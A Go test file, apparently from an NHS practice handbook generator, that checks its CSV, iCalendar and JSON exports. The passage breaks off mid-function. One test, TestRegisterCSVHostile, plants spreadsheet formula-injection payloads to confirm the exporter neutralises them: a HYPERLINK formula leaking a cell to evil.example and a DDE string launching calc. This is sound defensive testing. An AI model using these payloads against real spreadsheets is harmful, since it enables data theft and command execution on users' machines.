package pipeline

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"path"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/emersion/go-ical"
	"github.com/handbook-nhs/handbook/generator/govern"
	"github.com/handbook-nhs/handbook/generator/site"
	"golang.org/x/net/html"

	"github.com/handbook-nhs/handbook/generator/sitetest"
)

// The tests of the exports: each practice's register.csv, reviews.ics and
// practice.json, and handbook.json.

const bom = "\uFEFF"

// readCSV checks that data is a CSV file as Excel wants it (UTF-8 with a
// byte order mark, every row ended by CRLF) and returns its rows.
func readCSV(t *testing.T, name string, data []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(data, []byte(bom))
	if !ok {
		t.Fatalf("%s does not start with a UTF-8 byte order mark", name)
	}
	if !utf8.Valid(body) {
		t.Fatalf("%s is not UTF-8", name)
	}
	// Outside quoted fields, every line break is CRLF.
	quoted := false
	for i, c := range body {
		switch {
		case c == '"':
			quoted = !quoted
		case quoted:
		case c == '\n' && (i == 0 || body[i-1] != '\r'):
			t.Fatalf("%s: a row ends with a bare LF at byte %d", name, i)
		case c == '\r' && (i+1 == len(body) || body[i+1] != '\n'):
			t.Fatalf("%s: a bare CR at byte %d", name, i)
		}
	}
	if !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Fatalf("%s does not end with CRLF", name)
	}
	r := csv.NewReader(bytes.NewReader(body))
	rows, err := r.ReadAll() // every row must have as many fields as the first
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return rows
}

// column returns the index of the column named name in the header row.
func column(t *testing.T, header []string, name string) int {
	t.Helper()
	i := slices.Index(header, name)
	if i < 0 {
		t.Fatalf("register.csv has no column %q: %q", name, header)
	}
	return i
}

// registerRow is one service's row of the register page's table: the
// service's link, its address, the text of each cell, its lines split at
// <br>, and each cell's data-value.
type registerRow struct {
	name, href string
	cells      [][]string
	values     []string
}

// registerTable reads the table of a register page.
func registerTable(t *testing.T, name string, data []byte) []registerRow {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var rows []registerRow
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode || n.Data != "tr" || n.Parent == nil || n.Parent.Data != "tbody" || attr(n, "data-state") == "" {
			continue
		}
		var row registerRow
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if c.Type != html.ElementNode {
				continue
			}
			if c.Data == "th" {
				for d := range c.Descendants() {
					if d.Type == html.ElementNode && d.Data == "a" {
						row.name = text(d)
						row.href = attr(d, "href")
						break
					}
				}
			}
			row.cells = append(row.cells, lines(c))
			row.values = append(row.values, attr(c, "data-value"))
		}
		rows = append(rows, row)
	}
	if len(rows) == 0 {
		t.Fatalf("%s: no rows in the register's table", name)
	}
	return rows
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// text is the text of n, with white space collapsed as a browser shows it.
func text(n *html.Node) string { return strings.Join(lines(n), " ") }

// lines is the text of n split at each <br>, white space collapsed.
func lines(n *html.Node) []string {
	var out []string
	var b strings.Builder
	flush := func() {
		out = append(out, strings.Join(strings.Fields(b.String()), " "))
		b.Reset()
	}
	for d := range n.Descendants() {
		switch {
		case d.Type == html.TextNode:
			b.WriteString(d.Data)
		case d.Type == html.ElementNode && d.Data == "br":
			flush()
		}
	}
	flush()
	return out
}

// TestRegisterCSV builds the example and checks that each practice's
// register.csv holds the rows of its register page, in the same order,
// with the same values, reads back through encoding/csv, and keeps every
// field of every service record.
func TestRegisterCSV(t *testing.T) {
	b := example(t)
	files := b.tree()
	nonASCII := false
	for _, pr := range b.practices(t) {
		name := pr.RegisterCSVURL()
		rows := readCSV(t, name, files[name])
		table := registerTable(t, pr.RegisterURL(), files[pr.RegisterURL()])
		header := rows[0]
		if got, want := len(rows)-1, len(table); got != want {
			t.Fatalf("%s has %d services, the register page %d", name, got, want)
		}
		col := func(c string) int { return column(t, header, c) }
		byID := map[string]*site.Service{}
		for _, s := range pr.Services {
			byID[s.ID] = s
		}
		for i, tr := range table {
			row := rows[i+1]
			s := byID[row[col("Id")]]
			where := fmt.Sprintf("%s row %d (%s)", name, i+2, tr.name)
			if s == nil {
				t.Fatalf("%s: no service %q", where, row[col("Id")])
			}
			check := func(what, got, want string) {
				t.Helper()
				if got != want {
					t.Errorf("%s: %s is %q in the CSV, %q on the page", where, what, got, want)
				}
			}
			// The register page's columns: Service (with its category),
			// Owner, the nine headings, what to act on, Next review.
			check("the service", row[col("Service")], tr.name)
			check("the page", row[col("Page")], path.Join(path.Dir(pr.RegisterURL()), tr.href))
			check("the category", row[col("Category")], strings.SplitN(tr.cells[0][0][len(tr.name):], " · ", 2)[0])
			check("the owner", row[col("Owner")], strings.Replace(strings.Join(tr.cells[1], " "), "(left "+leftHuman(s.OwnerRef)+")", "(left "+leftISO(s.OwnerRef)+")", 1))
			check("the next review", row[col("Next review")], tr.values[4])
			checkEveryField(t, where, reflect.ValueOf(*s), "", strings.Join(row, "\n"))
			for _, v := range row {
				nonASCII = nonASCII || strings.ContainsFunc(v, func(r rune) bool { return r > utf8.RuneSelf })
			}
		}
	}
	if !nonASCII {
		t.Error("no value of the example registers has a letter outside ASCII: the test proves little")
	}
	if !bytes.Contains(files["castlegate/register.csv"], []byte(`"Siân Bell"`)) {
		t.Error(`castlegate/register.csv does not name "Siân Bell" as written`)
	}
}

// checkEveryField checks that each value of a record's TOML fields (v,
// walked through its toml tags) is in row, the text of its CSV row:
// strings as written, or for a field with an enum its label; dates as
// YYYY-MM-DD; numbers in digits. A reference to another record is found
// by the record's name (the test of the owner checks that).
func checkEveryField(t *testing.T, where string, v reflect.Value, key, row string) {
	t.Helper()
	switch x := v.Interface().(type) {
	case site.Date:
		if !x.IsZero() && !strings.Contains(row, x.String()) {
			t.Errorf("%s: %s = %s is not in the CSV", where, key, x)
		}
		return
	case site.Duration:
		if !x.IsZero() && !strings.Contains(row, x.String()) {
			t.Errorf("%s: %s = %s is not in the CSV", where, key, x)
		}
		return
	case site.Hours:
		if !x.IsZero() && !strings.Contains(row, x.String()) {
			t.Errorf("%s: %s = %s is not in the CSV", where, key, x)
		}
		return
	}
	switch v.Kind() {
	case reflect.Struct:
		for i := range v.NumField() {
			f := v.Type().Field(i)
			tag, _, _ := strings.Cut(f.Tag.Get("toml"), ",")
			if tag == "" || tag == "-" {
				continue
			}
			k := tag
			if key != "" {
				k = key + "." + tag
			}
			if enum := f.Tag.Get("enum"); enum != "" {
				vals := []string{v.Field(i).String()}
				if v.Field(i).Kind() == reflect.Slice {
					vals = v.Field(i).Interface().([]string)
				}
				for _, val := range vals {
					if label := site.Enums[enum].Label(val); !strings.Contains(row, label) {
						t.Errorf("%s: %s = %q (%s) is not in the CSV", where, k, val, label)
					}
				}
				continue
			}
			checkEveryField(t, where, v.Field(i), k, row)
		}
	case reflect.Slice:
		for i := range v.Len() {
			checkEveryField(t, where, v.Index(i), fmt.Sprintf("%s.%d", key, i), row)
		}
	case reflect.String:
		s := v.String()
		if strings.Contains(key, "owner") || strings.Contains(key, "deputy") || strings.Contains(key, "admins") ||
			strings.Contains(key, "depends_on") || strings.HasSuffix(key, ".by") || key == "support.supplier" || key == "support.desk" {
			return // a reference, written as the record's name
		}
		if s != "" && !strings.Contains(row, strings.TrimSpace(s)) {
			t.Errorf("%s: %s = %q is not in the CSV", where, key, s)
		}
	case reflect.Int:
		if !strings.Contains(row, strconv.Itoa(int(v.Int()))) {
			t.Errorf("%s: %s = %d is not in the CSV", where, key, v.Int())
		}
	case reflect.Bool:
		// privacy_notice: "Yes" or "No".
		if !strings.Contains(row, map[bool]string{true: "Yes", false: "No"}[v.Bool()]) {
			t.Errorf("%s: %s = %v is not in the CSV", where, key, v.Bool())
		}
	}
}

func leftHuman(pe *site.Person) string {
	if pe == nil {
		return ""
	}
	return pe.Left.Human()
}

func leftISO(pe *site.Person) string {
	if pe == nil {
		return ""
	}
	return pe.Left.String()
}

// TestRegisterCSVHostile checks that values a spreadsheet would run as
// formulas are read as text, and that text outside ASCII comes through.
func TestRegisterCSVHostile(t *testing.T) {
	const (
		formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Details")`
		at      = `@SUM(1+1)*cmd|' /C calc'!A0`
		name    = "Dr Zoë Ní Bhriain"
	)
	fsys := fixture(t)
	svc := "content/alpha/services/clinical.toml"
	edit(t, fsys, svc, `purpose = "Records & appointments."`, `purpose = '`+formula+`'`)
	edit(t, fsys, svc, `plain_name = "Patient records"`, `plain_name = "`+strings.ReplaceAll(at, `'`, `\u0027`)+`"`)
	edit(t, fsys, "content/alpha/people/gp.toml", `name = "Dr Gale Partner"`, `name = "`+name+`"`)
	files := mustBuild(t, fsys, Options{Today: goldenToday, NoMinify: true}).files
	f := find(files, "alpha/register.csv")
	if f == nil {
		t.Fatal("no alpha/register.csv")
	}
	rows := readCSV(t, f.Path, f.Data)
	row := rows[1+slices.IndexFunc(rows[1:], func(r []string) bool { return r[0] == "Clinical <System>" })]
	for _, tt := range []struct{ col, want string }{
		{"Purpose", "'" + formula},
		{"Plain name", "'" + at},
		{"Owner", name},
	} {
		if got := row[column(t, rows[0], tt.col)]; got != tt.want {
			t.Errorf("%s reads back as %q, want %q", tt.col, got, tt.want)
		}
	}
	for i, r := range rows {
		for j, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r\n", rune(v[0])) {
				t.Errorf("row %d, field %d starts a formula: %q", i+1, j+1, v)
			}
		}
	}
}

// icsEvent is an event of a calendar feed, as the test reads it.
type icsEvent struct {
	UID, Summary, Description, Categories string
	Start, End                            time.Time
}

// readICS checks data strictly against RFC 5545 and the feed's promises,
// and returns its events. Every line must end in CRLF and be no longer
// than 75 octets, continuation lines start with one space and unfold to
// the whole line without splitting a UTF-8 sequence, components balance,
// the required properties are there once each, UIDs are unique, DTSTAMP
// is the build date, and events are all-day, one day long. TEXT must be
// escaped exactly. The feed must also parse with an independent reader,
// github.com/emersion/go-ical, giving the same text, and pass that
// library's checks of which properties each component must have.
func readICS(t *testing.T, name string, data []byte, today site.Date) []icsEvent {
	t.Helper()
	fail := func(format string, args ...any) {
		t.Helper()
		t.Fatalf("%s: "+format, append([]any{name}, args...)...)
	}
	s := string(data)
	if !strings.HasSuffix(s, "\r\n") {
		fail("does not end with CRLF")
	}
	var content []string
	for i, l := range strings.Split(strings.TrimSuffix(s, "\r\n"), "\r\n") {
		switch {
		case strings.ContainsAny(l, "\r\n"):
			fail("line %d has a bare CR or LF", i+1)
		case len(l) > 75:
			fail("line %d is %d octets long, more than 75: %q", i+1, len(l), l)
		case !utf8.ValidString(l):
			fail("line %d is not whole UTF-8 (a sequence split by folding?): %q", i+1, l)
		case strings.HasPrefix(l, " ") || strings.HasPrefix(l, "\t"):
			if i == 0 || !strings.HasPrefix(l, " ") {
				fail("line %d continues nothing, or starts with a tab", i+1)
			}
			content[len(content)-1] += l[1:]
		default:
			content = append(content, l)
		}
	}

	type prop struct{ name, params, value string }
	var stack []string
	calProps := map[string][]prop{}
	var events []map[string][]prop
	for _, l := range content {
		head, value, ok := strings.Cut(l, ":")
		if !ok {
			fail("content line without a colon: %q", l)
		}
		pname, params, _ := strings.Cut(head, ";")
		p := prop{pname, params, value}
		switch pname {
		case "BEGIN":
			stack = append(stack, value)
			if value == "VEVENT" {
				if len(stack) != 2 || stack[0] != "VCALENDAR" {
					fail("VEVENT outside VCALENDAR")
				}
				events = append(events, map[string][]prop{})
			}
			continue
		case "END":
			if len(stack) == 0 || stack[len(stack)-1] != value {
				fail("END:%s does not close %v", value, stack)
			}
			stack = stack[:len(stack)-1]
			continue
		}
		switch {
		case len(stack) == 1:
			calProps[pname] = append(calProps[pname], p)
		case len(stack) == 2 && stack[1] == "VEVENT":
			ev := events[len(events)-1]
			ev[pname] = append(ev[pname], p)
		default:
			fail("property %s outside a component", pname)
		}
	}
	if len(stack) != 0 || content[0] != "BEGIN:VCALENDAR" || content[len(content)-1] != "END:VCALENDAR" {
		fail("not one VCALENDAR: %v left open", stack)
	}
	one := func(props map[string][]prop, pname, where string) prop {
		t.Helper()
		if len(props[pname]) != 1 {
			fail("%s has %d %s properties, want 1", where, len(props[pname]), pname)
		}
		return props[pname][0]
	}
	for pname, want := range map[string]string{
		"VERSION": "2.0", "CALSCALE": "GREGORIAN", "METHOD": "PUBLISH",
		"REFRESH-INTERVAL": "P1D", "X-PUBLISHED-TTL": "P1D",
	} {
		if got := one(calProps, pname, "VCALENDAR").value; got != want {
			fail("%s is %q, want %q", pname, got, want)
		}
	}
	for _, pname := range []string{"PRODID", "X-WR-CALNAME", "NAME"} {
		if one(calProps, pname, "VCALENDAR").value == "" {
			fail("%s is empty", pname)
		}
	}
	if len(events) == 0 {
		fail("no events")
	}

	stamp := strings.ReplaceAll(today.String(), "-", "") + "T000000Z"
	uids := map[string]bool{}
	var out []icsEvent
	for i, ev := range events {
		where := fmt.Sprintf("event %d", i+1)
		e := icsEvent{}
		e.UID = unescapeICS(t, name, one(ev, "UID", where).value)
		where += " (" + e.UID + ")"
		if uids[e.UID] {
			fail("%s: UID used twice", where)
		}
		uids[e.UID] = true
		if got := one(ev, "DTSTAMP", where).value; got != stamp {
			fail("%s: DTSTAMP %s, want the build date %s", where, got, stamp)
		}
		for _, d := range []struct {
			pname string
			into  *time.Time
		}{{"DTSTART", &e.Start}, {"DTEND", &e.End}} {
			p := one(ev, d.pname, where)
			if p.params != "VALUE=DATE" {
				fail("%s: %s;%s, want an all-day date (VALUE=DATE)", where, d.pname, p.params)
			}
			var err error
			if *d.into, err = time.Parse("20060102", p.value); err != nil {
				fail("%s: %s %q is not a date: %v", where, d.pname, p.value, err)
			}
		}
		if !e.End.Equal(e.Start.AddDate(0, 0, 1)) {
			fail("%s: ends %s, not the day after it starts", where, e.End)
		}
		e.Summary = unescapeICS(t, name, one(ev, "SUMMARY", where).value)
		e.Description = unescapeICS(t, name, one(ev, "DESCRIPTION", where).value)
		e.Categories = unescapeICS(t, name, one(ev, "CATEGORIES", where).value)
		if e.Summary == "" || e.Description == "" {
			fail("%s: empty summary or description", where)
		}
		out = append(out, e)
	}

	cal, err := ical.NewDecoder(bytes.NewReader(data)).Decode()
	if err != nil {
		fail("go-ical: %v", err)
	}
	if err := ical.NewEncoder(io.Discard).Encode(cal); err != nil {
		fail("go-ical's checks: %v", err)
	}
	libEvents := cal.Events()
	if len(libEvents) != len(out) {
		fail("go-ical reads %d events, the test %d", len(libEvents), len(out))
	}
	for i, le := range libEvents {
		for pname, want := range map[string]string{"UID": out[i].UID, "SUMMARY": out[i].Summary, "DESCRIPTION": out[i].Description} {
			if got, err := le.Props.Text(pname); err != nil || got != want {
				fail("go-ical reads %s of event %d as %q (%v), the test as %q", pname, i+1, got, err, want)
			}
		}
		if start, err := le.DateTimeStart(time.UTC); err != nil || !start.Equal(out[i].Start) {
			fail("go-ical reads the start of event %d as %v (%v)", i+1, start, err)
		}
	}
	return out
}

// unescapeICS is the value s of an iCalendar property, unescaped; the
// test fails when s is not escaped as RFC 5545 requires.
func unescapeICS(t *testing.T, name, s string) string {
	t.Helper()
	v, err := sitetest.UnescapeICSText(s)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return v
}

// TestCalendarText puts text with every character TEXT must escape, a
// line break, and long runs of letters outside ASCII into a record, and
// checks that the event's summary reads back as the record's text.
func TestCalendarText(t *testing.T) {
	action := "Reprint the forms, then file them; ask Zoë about C:\\forms\\new\nand “the paper list” — " +
		strings.Repeat("Siân’s café ☕ ", 12)
	fsys := fixture(t)
	toml := strings.NewReplacer(`\`, `\\`, "\n", `\n`, `"`, `\"`).Replace(action)
	edit(t, fsys, "content/alpha/exercises/tabletop-2026.toml", `action = "Reprint the paper forms."`, `action = "`+toml+`"`)
	// The same course planned twice for one person: two events, each
	// with its own UID.
	edit(t, fsys, "content/alpha/training.toml", `status = "requested"`,
		"status = \"requested\"\n[[plan]]\nperson = \"gp\"\ncourse = \"dsa\"\nreason = \"Refresher\"\ntarget = 2027-12-31\nstatus = \"planned\"")
	files := mustBuild(t, fsys, Options{Today: goldenToday, NoMinify: true}).files
	f := find(files, "alpha/reviews.ics")
	if f == nil {
		t.Fatal("no alpha/reviews.ics")
	}
	events := readICS(t, f.Path, f.Data, goldenToday)
	i := slices.IndexFunc(events, func(e icsEvent) bool { return e.UID == "action/exercise/tabletop-2026/1@y00001.handbook" })
	if i < 0 {
		t.Fatal("no event for the exercise's action")
	}
	if want := "Overdue: Action due: " + action; events[i].Summary != want {
		t.Errorf("the summary reads back as\n%q, want\n%q", events[i].Summary, want)
	}
	if want := time.Date(2026, 6, 30, 0, 0, 0, 0, time.UTC); !events[i].Start.Equal(want) {
		t.Errorf("the action's event is on %s, want its due date %s", events[i].Start, want)
	}
	if !strings.Contains(events[i].Description, "Page in the handbook: alpha/exercises/tabletop-2026.html") {
		t.Errorf("the description does not name the page:\n%s", events[i].Description)
	}
	for _, uid := range []string{"training-plan/gp/dsa@y00001.handbook", "training-plan/gp/dsa/2@y00001.handbook"} {
		if !slices.ContainsFunc(events, func(e icsEvent) bool { return e.UID == uid }) {
			t.Errorf("no event %s", uid)
		}
	}
}

// calendarRules says, for each governance rule that measures a date, the
// event of reviews.ics that holds the date: its UID without the domain,
// from the finding; and whether the finding means the event is overdue.
// Rules measuring no date are in undated. Every rule must be in one or
// the other, so that a new rule with a date is not left out of the
// calendar unnoticed.
var calendarRules = map[string]struct {
	uid     func(t *testing.T, f *site.Finding) string
	overdue bool
}{
	"review-overdue":           {reviewUID, true},
	"review-due-soon":          {reviewUID, false},
	"access-review-overdue":    {subjectUID("access-review"), true},
	"access-review-due-soon":   {subjectUID("access-review"), false},
	"dpia-review-overdue":      {subjectUID("dpia-review"), true},
	"dpia-review-due-soon":     {subjectUID("dpia-review"), false},
	"contract-ended":           {subjectUID("contract-end"), true},
	"contract-ending":          {subjectUID("contract-end"), false},
	"runbook-never-exercised":  {subjectUID("runbook-exercise"), true},
	"runbook-exercise-overdue": {subjectUID("runbook-exercise"), true},
	"plan-review-overdue":      {fixedUID("plan-review/continuity"), true},
	"plan-approval-expired":    {fixedUID("icb-approval-expiry/continuity"), true},
	"cascade-test-overdue":     {fixedUID("cascade-test/continuity"), true},
	"grab-bag-unchecked":       {fixedUID("grab-bag-check/continuity"), true},
	"icb-review-missing":       {fixedUID("icb-review/annual"), true},
	"needs-analysis-overdue":   {fixedUID("needs-analysis/training"), true},
	"training-missing":         {subjectUID("training"), true},
	"training-request-waiting": {fixedUID("training-plan"), true},
	"action-overdue":           {actionUID, true},
	"contacts-unverified":      {subjectUID("contacts-check"), true},
	"incident-report-overdue":  {reportUID, true},
	"incident-report-due":      {reportUID, false},
	"change-review-overdue":    {subjectUID("change-review"), true},
	"asset-refresh-overdue":    {subjectUID("asset-refresh"), true},
	"vulnerable-list-stale":    {fixedUID("vulnerable-list/continuity"), true},
	"risk-review-overdue":      {riskUID, true},
}

// riskUID is the event of the risk the finding is about: the one whose
// review date is where the finding points.
func riskUID(t *testing.T, f *site.Finding) string {
	t.Helper()
	for i := range f.Subject.(*site.ContinuityPlan).Risks {
		if f.Pos == f.Practice.At(fmt.Sprintf("continuity.risks.%d.review", i)) {
			return "risk-review/" + strconv.Itoa(i+1)
		}
	}
	t.Fatalf("%s: %s points at no risk's review date: %s", f.Pos, f.Rule, f.Message)
	return ""
}

var undated = []string{
	"service-owner-left", "service-deputy-left", "service-admin-left", "service-no-deputy",
	"dpia-missing", "clinical-safety-missing", "clinical-safety-supplier-only",
	"runbook-missing", "runbook-no-paper", "runbook-person-left",
	"plan-not-approved", "cascade-leaver",
	"role-unfilled", "role-holder-left", "role-deputy-left", "training-below-target",
	"privacy-notice-missing", "dspt-below-standard", "dspt-stale", "agreement-not-current",
	// Measured from a date written, but a reminder to chase, not a date due.
	"plan-approval-waiting",
	// A report made late is history, not a date to come.
	"incident-report-late", "incident-breach-undecided",
	"change-live-unchecked", "change-migration-unagreed",
	"asset-disposal-unevidenced", "asset-owner-left",
	"functions-missing", "function-service-too-slow", "vulnerable-patients-missing", "risk-without-card",
	"online-consultation-hours", "online-consultation-hours-missing",
	"dpo-conflict",
	// A value still to fill in is due now, not on a date.
	"placeholder",
}

// reportUID is the event of an incident's report that is due: the one
// whose route is where the finding points.
func reportUID(t *testing.T, f *site.Finding) string {
	t.Helper()
	in := f.Subject.(*site.Incident)
	for i, r := range in.Reports {
		if f.Pos == in.At(fmt.Sprintf("reports.%d.route", i)) {
			return "incident-report/" + in.ID + "/" + r.Route
		}
	}
	t.Fatalf("%s: %s points at no report of %s: %s", f.Pos, f.Rule, in.ID, f.Message)
	return ""
}

func recordID(rec any) string {
	return reflect.ValueOf(rec).Elem().FieldByName("ID").String()
}

func subjectUID(kind string) func(t *testing.T, f *site.Finding) string {
	return func(_ *testing.T, f *site.Finding) string { return kind + "/" + recordID(f.Subject) }
}

func fixedUID(uid string) func(t *testing.T, f *site.Finding) string {
	return func(*testing.T, *site.Finding) string { return uid }
}

func reviewUID(t *testing.T, f *site.Finding) string {
	switch f.Subject.(type) {
	case *site.Service:
		return subjectUID("service-review")(t, f)
	case *site.Runbook:
		return subjectUID("runbook-review")(t, f)
	}
	return subjectUID("page-review")(t, f)
}

func actionUID(_ *testing.T, f *site.Finding) string {
	kind := "review"
	switch f.Subject.(type) {
	case *site.Exercise:
		kind = "exercise"
	case *site.Incident:
		kind = "incident"
	}
	return "action/" + kind + "/" + recordID(f.Subject)
}

// TestCalendarExample checks the example's calendars strictly, and that
// each finding about a date has its event: overdue for a finding that
// something is overdue, due within the notice period for one that it is
// due soon.
func TestCalendarExample(t *testing.T) {
	for _, r := range govern.Rules {
		if _, ok := calendarRules[r.ID]; !ok && !slices.Contains(undated, r.ID) {
			t.Errorf("rule %s is neither in the calendar nor listed as measuring no date", r.ID)
		}
	}
	b := example(t)
	files := b.files
	today := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)
	kinds := map[string]bool{}
	checked := 0
	for _, pr := range b.practices(t) {
		f := find(files, pr.CalendarURL())
		if f == nil {
			t.Fatalf("no %s", pr.CalendarURL())
		}
		events := readICS(t, f.Path, f.Data, goldenToday)
		domain := "@" + strings.ToLower(pr.ODS) + ".handbook"
		for _, e := range events {
			local, ok := strings.CutSuffix(e.UID, domain)
			if !ok {
				t.Errorf("%s: UID %s is not in %s", f.Path, e.UID, domain)
			}
			kind, _, _ := strings.Cut(local, "/")
			kinds[kind] = true
			overdue := strings.HasPrefix(e.Summary, "Overdue: ")
			if overdue != e.Start.Before(today) && !(overdue && e.Start.Equal(today)) {
				t.Errorf("%s: %s on %s is marked overdue %v", f.Path, e.UID, e.Start.Format(time.DateOnly), overdue)
			}
		}
		for _, fd := range pr.Findings {
			rule, ok := calendarRules[fd.Rule]
			if !ok || fd.Rule == "plan-approval-expired" && pr.Continuity.Approval.Expires.IsZero() {
				continue
			}
			want := rule.uid(t, fd)
			// The event of want itself, or one under it (a person's
			// training, course by course), not one whose id only starts
			// the same ("accurx" and "accurx-patient-triage").
			i := slices.IndexFunc(events, func(e icsEvent) bool {
				return strings.HasPrefix(e.UID, want+"@") || strings.HasPrefix(e.UID, want+"/")
			})
			if i < 0 {
				t.Errorf("%s: no event %s for the finding %s: %s", f.Path, want, fd.Rule, fd.Message)
				continue
			}
			checked++
			e := events[i]
			switch overdue := strings.HasPrefix(e.Summary, "Overdue: "); {
			case overdue != rule.overdue:
				t.Errorf("%s: %s is marked overdue %v, but the finding %s says %q", f.Path, e.UID, overdue, fd.Rule, fd.Message)
			case !overdue && e.Start.After(today.AddDate(0, 0, 90)):
				t.Errorf("%s: %s is on %s, not soon, but the finding %s says %q", f.Path, e.UID, e.Start, fd.Rule, fd.Message)
			}
		}
	}
	if checked < 50 {
		t.Errorf("only %d findings matched with events: the test proves little", checked)
	}
	for _, k := range []string{
		"service-review", "access-review", "dpia-review", "contract-end", "runbook-review", "runbook-exercise",
		"page-review", "plan-review", "cascade-test", "icb-approval-expiry", "icb-review", "needs-analysis",
		"training", "training-plan", "action", "contacts-check",
	} {
		if !kinds[k] {
			t.Errorf("no event of kind %s in the example's calendars", k)
		}
	}
}

// jsonAt returns the strings at a path in a decoded JSON value: keys
// separated by dots, a key ending in [] stepping into each element of an
// array, a string or list of strings at the end. Empty strings are left
// out.
func jsonAt(v any, p string) []string {
	if p == "" {
		switch v := v.(type) {
		case string:
			if v != "" {
				return []string{v}
			}
		case []any:
			var out []string
			for _, e := range v {
				out = append(out, jsonAt(e, "")...)
			}
			return out
		}
		return nil
	}
	key, rest, _ := strings.Cut(p, ".")
	m, _ := v.(map[string]any)
	if k, ok := strings.CutSuffix(key, "[]"); ok {
		var out []string
		list, _ := m[k].([]any)
		for _, e := range list {
			out = append(out, jsonAt(e, rest)...)
		}
		return out
	}
	return jsonAt(m[key], rest)
}

// tomlKeys lists the TOML keys of record type T, but the sensitive ones.
func tomlKeys[T any]() []string {
	var keys []string
	t := reflect.TypeFor[T]()
	for i := range t.NumField() {
		tag, ok := t.Field(i).Tag.Lookup("toml")
		if ok && t.Field(i).Tag.Get("sensitive") == "" {
			k, _, _ := strings.Cut(tag, ",")
			keys = append(keys, k)
		}
	}
	return keys
}

// TestJSON checks handbook.json and each practice.json of the example:
// valid JSON, every record there with its
// TOML keys, page and source, every reference an id of a record in the
// export, and the findings.
func TestJSON(t *testing.T) {
	b := example(t)
	h, all, files := b.handbook(), b.practices(t), b.files
	decode := func(p string) map[string]any {
		t.Helper()
		f := find(files, p)
		if f == nil {
			t.Fatalf("no %s", p)
		}
		if bytes.Contains(f.Data, []byte("personal_mobile")) {
			t.Errorf("%s has personal_mobile", p)
		}
		var v map[string]any
		if err := json.Unmarshal(f.Data, &v); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if v["format_version"] != 1.0 || v["built_for"] != "2026-11-21" {
			t.Errorf("%s: format_version %v, built_for %v", p, v["format_version"], v["built_for"])
		}
		return v
	}
	ids := func(v any, key string) []string { return jsonAt(v, key+"[].id") }
	records := func(v map[string]any, key string) []map[string]any {
		var out []map[string]any
		list, _ := v[key].([]any)
		for _, e := range list {
			out = append(out, e.(map[string]any))
		}
		return out
	}
	// hasRecord checks one exported record: its page is a file of the
	// site, its source is the record's file, it has every TOML key.
	hasRecord := func(where string, rec map[string]any, src string, keys []string) {
		t.Helper()
		if p, _ := rec["page"].(string); find(files, p) == nil {
			t.Errorf("%s: page %q is not a file of the site", where, rec["page"])
		}
		if rec["source"] != src {
			t.Errorf("%s: source %v, want %s", where, rec["source"], src)
		}
		for _, k := range keys {
			if _, ok := rec[k]; !ok {
				t.Errorf("%s: no key %s", where, k)
			}
		}
	}

	top := decode(site.JSONURL)
	if top["title"] != h.Config.Title {
		t.Errorf("handbook.json: title %v", top["title"])
	}
	orgs := ids(top, "organisations")
	courses := ids(top, "courses")
	if want := ids2(h.Organisations, func(o *site.Organisation) string { return o.ID }); !slices.Equal(orgs, want) {
		t.Errorf("handbook.json: organisations %v, want %v", orgs, want)
	}
	if want := ids2(h.Courses, func(c *site.Course) string { return c.ID }); !slices.Equal(courses, want) {
		t.Errorf("handbook.json: courses %v, want %v", courses, want)
	}
	for i, o := range records(top, "organisations") {
		hasRecord("handbook.json organisation "+orgs[i], o, h.Organisations[i].File, tomlKeys[site.Organisation]())
	}
	practices := records(top, "practices")
	if len(practices) != len(all) {
		t.Fatalf("handbook.json lists %d practices, want %d", len(practices), len(all))
	}

	refs := 0
	for i, pr := range all {
		entry := practices[i]
		if entry["id"] != pr.ID || entry["ods"] != pr.ODS || entry["json"] != pr.JSONURL() {
			t.Errorf("handbook.json: practice %d is %v", i, entry)
		}
		counts := map[string]float64{}
		for _, f := range pr.Findings {
			counts[f.Severity.String()]++
		}
		for sev, n := range entry["findings"].(map[string]any) {
			if n != counts[sev] {
				t.Errorf("handbook.json: %s has %v findings of severity %s, want %v", pr.ID, n, sev, counts[sev])
			}
		}

		p := pr.JSONURL()
		v := decode(p)
		hasRecord(p+" practice", v["practice"].(map[string]any), pr.File, tomlKeys[site.Practice]())
		collections := []struct {
			key  string
			ids  []string
			srcs []string
			keys []string
		}{
			{"people", ids2(pr.People, func(x *site.Person) string { return x.ID }), ids2(pr.People, func(x *site.Person) string { return x.File }), tomlKeys[site.Person]()},
			{"services", ids2(pr.Services, func(x *site.Service) string { return x.ID }), ids2(pr.Services, func(x *site.Service) string { return x.File }), tomlKeys[site.Service]()},
			{"runbooks", ids2(pr.Runbooks, func(x *site.Runbook) string { return x.ID }), ids2(pr.Runbooks, func(x *site.Runbook) string { return x.File }), tomlKeys[site.Runbook]()},
			{"exercises", ids2(pr.Exercises, func(x *site.Exercise) string { return x.ID }), ids2(pr.Exercises, func(x *site.Exercise) string { return x.File }), tomlKeys[site.Exercise]()},
			{"reviews", ids2(pr.Reviews, func(x *site.ReviewRecord) string { return x.ID }), ids2(pr.Reviews, func(x *site.ReviewRecord) string { return x.File }), tomlKeys[site.ReviewRecord]()},
			{"pages", ids2(pr.Pages, func(x *site.Page) string { return x.ID }), ids2(pr.Pages, func(x *site.Page) string { return x.File }), tomlKeys[site.Page]()},
		}
		known := map[string][]string{"organisations": orgs, "courses": courses}
		for _, c := range collections {
			got := ids(v, c.key)
			if !slices.Equal(got, c.ids) || len(got) == 0 {
				t.Errorf("%s: %s %v, want %v", p, c.key, got, c.ids)
			}
			for j, rec := range records(v, c.key) {
				hasRecord(fmt.Sprintf("%s %s %s", p, c.key, c.ids[j]), rec, c.srcs[j], c.keys)
			}
			known[c.key] = got
		}
